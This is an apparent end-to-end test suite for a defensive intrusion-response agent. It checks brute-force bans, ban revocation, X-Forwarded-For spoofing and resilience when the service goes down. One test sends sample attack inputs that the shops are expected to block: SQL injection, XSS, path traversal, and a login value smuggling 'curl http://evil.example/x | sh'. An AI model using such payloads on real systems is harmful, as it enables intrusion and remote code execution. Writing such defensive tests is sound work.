/**
 * @riposte/agent end to end, every part in its own process: `riposte start` (embedded Kinesis and
 * DynamoDB) and three processes of the example shop (examples/shop), each with its agent. Clients
 * are distinct loopback addresses; 127.0.0.10 is the proxy the shops trust.
 *
 * The tests run in order, as one story: a password-guessing run spread over the three shops is
 * banned and every shop enforces it within a second; the revocation too; forged X-Forwarded-For
 * neither evades a ban nor frames someone else; rule hits are blocked and reported; then Riposte is
 * frozen and killed, the shops go on answering at once with their bans, their buffers stay bounded,
 * and after a restart the buffered events arrive, once.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AgentApi, type AgentResponse } from '../../scripts/lib/agent-api';
import { httpFrom, postJsonFrom } from '../../scripts/lib/http-from';
import { ResponseWatcher, type SeenResponse } from '../../scripts/lib/response-watcher';
import { startShop, type ShopProcess } from '../../scripts/lib/shop-process';
import { demoToken, startRiposteProcess, type RiposteProcess } from '../helpers/riposte-process';
import { waitFor, waitForValue } from '../helpers/wait';

const ADMIN_TOKEN = 'agent-e2e-admin-token-0123456789';
const PROXY = '127.0.0.10';
const QUEUE_OF_SHOP_3 = 20;

const dataDir = mkdtempSync(join(tmpdir(), 'riposte-agent-e2e-'));
let port: number;
let riposte: RiposteProcess;
let token: string;
let shops: ShopProcess[];
let watcher: ResponseWatcher;
const seen: SeenResponse[] = [];

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const { port: p } = server.address() as { port: number };
      server.close(() => resolve(p));
    });
    server.on('error', reject);
  });
}

const startRiposte = (): Promise<RiposteProcess> => startRiposteProcess(dataDir, { PORT: String(port), RIPOSTE_ADMIN_TOKEN: ADMIN_TOKEN });

/** The ban (active) on `ip` once the watcher has seen it, and when. */
function banSeen(ip: string, timeoutMs = 30_000): Promise<SeenResponse> {
  return waitForValue(() => seen.find((s) => s.response.target.value === ip && s.response.status === 'active'), timeoutMs, { what: `a ban on ${ip}` });
}

/** Asks every shop, from `from`, until each answers `status`; resolves with when each first did. */
function firstAnswers(from: string, status: number, headers: Record<string, string> = {}): Promise<number[]> {
  return Promise.all(
    shops.map(async (shop) => {
      let at = 0;
      await waitFor(`${shop.name} to answer ${status} to ${from}`, async () => {
        const answer = await httpFrom(`${shop.url}/`, { from, headers });
        at = Date.now();
        return answer.status === status;
      }, 30_000, 10);
      return at;
    }),
  );
}

/** Failed logins from `from`, spread over `over` in turn. */
async function guessPasswords(from: string, count: number, over: ShopProcess[], headers: Record<string, string> = {}): Promise<void> {
  for (let i = 0; i < count; i++) {
    const shop = over[i % over.length] as ShopProcess;
    const answer = await postJsonFrom(`${shop.url}/login`, from, { login: 'alice@example.com', password: `guess-${i}` }, headers);
    expect(answer.status).toBe(401);
  }
}

async function metric(name: string, labels = ''): Promise<number> {
  const text = await (await fetch(`${riposte.url}/metrics`)).text();
  return text
    .split('\n')
    .filter((line) => line.startsWith(`${name}{`) && line.includes(labels))
    .reduce((sum, line) => sum + Number(line.split(' ').at(-1)), 0);
}

async function activeTargets(): Promise<string[]> {
  return (await new AgentApi(riposte.url, token).responses()).responses.map((r: AgentResponse) => r.target.value);
}

beforeAll(async () => {
  port = await freePort();
  riposte = await startRiposte();
  token = await demoToken(riposte);
  const agentOptions = (extra: object = {}) => ({
    batch: { scheduledDelayMillis: 200, ...extra },
    retry: { initialBackoffMillis: 200, maxBackoffMillis: 1000 },
    sync: { requestTimeoutMillis: 5000 },
  });
  shops = await Promise.all([
    startShop({ name: 'shop-1', riposteUrl: riposte.url, token, trustProxy: PROXY, agentOptions: agentOptions() }),
    startShop({ name: 'shop-2', riposteUrl: riposte.url, token, trustProxy: PROXY, agentOptions: agentOptions() }),
    startShop({ name: 'shop-3', riposteUrl: riposte.url, token, trustProxy: PROXY, agentOptions: agentOptions({ maxQueueSize: QUEUE_OF_SHOP_3, maxExportBatchSize: 10 }) }),
  ]);
  await Promise.all(shops.map((s) => s.ready()));
  watcher = new ResponseWatcher(new AgentApi(riposte.url, token), 'test', (s) => seen.push(s), { waitSeconds: 20, warn: () => undefined });
  await watcher.start();
}, 120_000);

afterAll(async () => {
  await watcher?.stop();
  await Promise.all((shops ?? []).map((s) => s.stop()));
  await riposte?.stop();
  rmSync(dataDir, { recursive: true, force: true });
}, 60_000);

test('a password-guessing run spread over three shops is banned; every shop answers 403 within a second of the ban; a customer is never blocked', async () => {
  const customer: number[] = [];
  let shopping = true;
  const browsing = (async () => {
    for (let i = 0; shopping; i++) {
      const shop = shops[i % 3] as ShopProcess;
      customer.push((await httpFrom(`${shop.url}/products/${(i % 3) + 1}`, { from: '127.0.0.77' })).status);
      // A customer who mistypes their password once in a while, then gets it right.
      if (i % 10 === 0) customer.push((await postJsonFrom(`${shop.url}/login`, '127.0.0.77', { login: 'bob@example.com', password: 'typo' })).status);
      if (i % 10 === 1) customer.push((await postJsonFrom(`${shop.url}/login`, '127.0.0.77', { login: 'bob@example.com', password: 'builder' })).status);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  })();
  // Each shop sees only 4 of the 12 guesses: none of them alone could tell.
  await guessPasswords('127.0.0.66', 12, shops);
  const [blocked, ban] = await Promise.all([firstAnswers('127.0.0.66', 403), banSeen('127.0.0.66')]);
  shopping = false;
  await browsing;
  expect(ban.response).toMatchObject({ action: 'ban', detector: 'login-brute-force', simulated: false });
  console.log(`shops answered 403 ${blocked.map((at) => at - ban.at).join(', ')} ms after the ban was visible on the agent API`);
  for (const at of blocked) expect(at - ban.at).toBeLessThan(1000);
  expect(customer.length).toBeGreaterThan(10);
  expect(customer.filter((s) => s !== 200 && s !== 401)).toEqual([]);
  expect(await activeTargets()).toEqual(['127.0.0.66']);
}, 60_000);

test('a revoked ban stops on every shop within a second', async () => {
  const ban = (await banSeen('127.0.0.66')).response;
  const answer = await httpFrom(`${riposte.url}/v1/admin/apps/demo/responses/${ban.id}/revoke`, { from: '127.0.0.1', method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
  expect(answer.status).toBe(200);
  const revokedAt = Date.now();
  const lifted = await firstAnswers('127.0.0.66', 200);
  console.log(`shops lifted the ban ${lifted.map((at) => at - revokedAt).join(', ')} ms after the revocation`);
  for (const at of lifted) expect(at - revokedAt).toBeLessThan(1000);
}, 30_000);

test('forged X-Forwarded-For: the ban lands on the attacker, not on the address it named, and the header does not lift it', async () => {
  // The attacker names the customer's address in a header the shops do not believe from it.
  await guessPasswords('127.0.0.55', 12, shops, { 'x-forwarded-for': '127.0.0.77' });
  await banSeen('127.0.0.55');
  await firstAnswers('127.0.0.55', 403);
  expect(await activeTargets()).toEqual(['127.0.0.55']);
  for (const shop of shops) {
    const get = (from: string, forwarded: string) => httpFrom(`${shop.url}/`, { from, headers: { 'x-forwarded-for': forwarded } });
    expect((await get('127.0.0.77', '198.51.100.1')).status).toBe(200); // the named customer is not banned
    expect((await get('127.0.0.55', '198.51.100.1')).status).toBe(403); // a header from the attacker itself changes nothing
    expect((await get(PROXY, '198.51.100.1, 127.0.0.55')).status).toBe(403); // through the proxy, the proxy's word counts
    expect((await get(PROXY, '127.0.0.78')).status).toBe(200); // and a customer behind the proxy is not the proxy's ban
  }
}, 60_000);

test('rule hits are blocked and reported: five categories from one address bring the scanner ban', async () => {
  const from = '127.0.0.44';
  const [a, b, c] = shops as [ShopProcess, ShopProcess, ShopProcess];
  expect((await httpFrom(`${a.url}/search?q=${encodeURIComponent("' OR 1=1 --")}`, { from })).status).toBe(403);
  expect((await httpFrom(`${b.url}/search?q=${encodeURIComponent('<script>alert(1)</script>')}`, { from })).status).toBe(403);
  expect((await httpFrom(`${c.url}/static/..%2f..%2fsecrets`, { from })).status).toBe(403);
  expect((await postJsonFrom(`${a.url}/login`, from, { login: 'x; curl http://evil.example/x | sh', password: 'x' })).status).toBe(403);
  // A report-only rule: the request goes through, and is reported.
  expect((await httpFrom(`${b.url}/`, { from, headers: { 'user-agent': 'sqlmap/1.7.2' } })).status).toBe(200);
  const ban = await banSeen(from);
  expect(ban.response).toMatchObject({ detector: 'scanner', action: 'ban' });
  await firstAnswers(from, 403);
}, 60_000);

test('with Riposte frozen, then killed: shops answer at once, bans hold, buffers stay bounded; after a restart the buffered events arrive once', async () => {
  // Nothing in flight: what arrives after the restart is exactly what happened meanwhile.
  await waitFor('every shop to have sent everything', async () => (await Promise.all(shops.map((s) => s.stats()))).every((s) => s.events.queued + s.events.sending === 0), 20_000);
  const before = await Promise.all(shops.map((s) => s.stats()));
  const timed = async (url: string, from: string): Promise<number> => {
    const started = performance.now();
    expect((await httpFrom(url, { from })).status).toBe(200);
    return performance.now() - started;
  };
  const up: number[] = [];
  for (let i = 0; i < 30; i++) up.push(await timed(`${(shops[i % 3] as ShopProcess).url}/products/1`, '127.0.0.79'));

  riposte.child.kill('SIGSTOP'); // connections are accepted by the kernel and never answered: the worst case for an agent
  const frozen: number[] = [];
  try {
    for (let i = 0; i < 30; i++) frozen.push(await timed(`${(shops[i % 3] as ShopProcess).url}/products/1`, '127.0.0.79'));
    await guessPasswords('127.0.0.33', 12, shops.slice(0, 2)); // 6 on each of shop-1 and shop-2
    await guessPasswords('127.0.0.34', 40, shops.slice(2)); // more than shop-3's queue holds
    for (const shop of shops) expect((await httpFrom(`${shop.url}/`, { from: '127.0.0.55' })).status).toBe(403);
  } finally {
    riposte.child.kill('SIGKILL');
  }
  await new Promise((resolve) => riposte.child.once('exit', resolve));

  // The agents' requests to Riposte time out after 5 s or more (10 s for events): a request that
  // waited on one would take that long. The bound leaves room for a loaded machine, not for that.
  const median = (xs: number[]) => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)] as number;
  console.log(`shop latency, median of 30: ${median(up).toFixed(1)} ms with Riposte up, ${median(frozen).toFixed(1)} ms with it frozen; max ${Math.max(...frozen).toFixed(1)} ms`);
  expect(Math.max(...frozen)).toBeLessThan(2000);
  for (const shop of shops) expect((await httpFrom(`${shop.url}/`, { from: '127.0.0.55' })).status).toBe(403);
  const down = await Promise.all(shops.map((s) => s.stats()));
  const third = down[2]?.events;
  expect(third?.queued).toBeLessThanOrEqual(QUEUE_OF_SHOP_3);
  expect((third?.dropped ?? 0) - (before[2]?.events.dropped ?? 0)).toBeGreaterThanOrEqual(40 - QUEUE_OF_SHOP_3 - 10);

  riposte = await startRiposte();
  await waitFor('every shop to have sent what it held', async () => (await Promise.all(shops.map((s) => s.stats()))).every((s) => s.events.queued + s.events.sending === 0 && s.connected), 60_000);
  const after = await Promise.all(shops.map((s) => s.stats()));
  const delivered = after.reduce((sum, s, i) => sum + s.events.sent - (before[i]?.events.sent ?? 0), 0);
  const dropped = after.reduce((sum, s, i) => sum + s.events.dropped - (before[i]?.events.dropped ?? 0), 0);
  // 52 failed logins were made while Riposte was away; what was not dropped arrived, each once.
  console.log(`after the restart: ${delivered} buffered events delivered, ${dropped} dropped (shop-3 holds ${QUEUE_OF_SHOP_3})`);
  expect(delivered + dropped).toBe(52);
  expect(await metric('riposte_ingest_events_total', 'outcome="accepted"')).toBe(delivered);
  await waitForValue(async () => ((await activeTargets()).includes('127.0.0.33') ? true : undefined), 30_000, { what: 'the ban on 127.0.0.33, from events buffered while Riposte was away' });
  expect(await metric('riposte_events_duplicate_total')).toBe(0);
}, 150_000);
